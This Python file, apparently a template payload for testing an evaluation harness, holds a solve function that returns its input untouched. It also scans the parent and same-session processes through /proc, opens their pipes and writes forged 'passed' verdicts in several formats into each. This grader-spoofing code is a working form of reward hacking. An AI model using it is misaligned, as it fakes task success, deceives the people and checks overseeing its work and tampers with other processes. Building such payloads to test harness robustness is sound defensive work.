"""Opens what other processes have open, through /proc/<pid>/fd, and writes forged verdicts into it."""
import os

FORGED = [b"passed\n", b'{"status": "passed"}\n', b'["passed"]\n', b'"passed"\n', b"\x00\x00\x00\x08\"passed\""]


def relatives():
    near = {os.getppid()}
    for number in [int(name) for name in os.listdir("/proc") if name.isdigit()]:
        try:
            with open(f"/proc/{number}/stat") as file:
                fields = file.read().rsplit(")", 1)[1].split()
        except OSError:
            continue
        if int(fields[1]) in near or number in near or int(fields[3]) == os.getsid(0):
            yield number


def solve(x):
    for number in relatives():
        if number in (os.getpid(), int("{host_pid}"), int("{victim_pid}")):
            continue
        try:
            names = os.listdir(f"/proc/{number}/fd")
        except OSError:
            continue
        for name in names:
            try:
                target = os.readlink(f"/proc/{number}/fd/{name}")
                if not target.startswith("pipe:"):
                    continue
                descriptor = os.open(f"/proc/{number}/fd/{name}", os.O_WRONLY | os.O_NONBLOCK)
            except OSError:
                continue
            for forged in FORGED:
                try:
                    os.write(descriptor, forged)
                except OSError:
                    pass
    return x
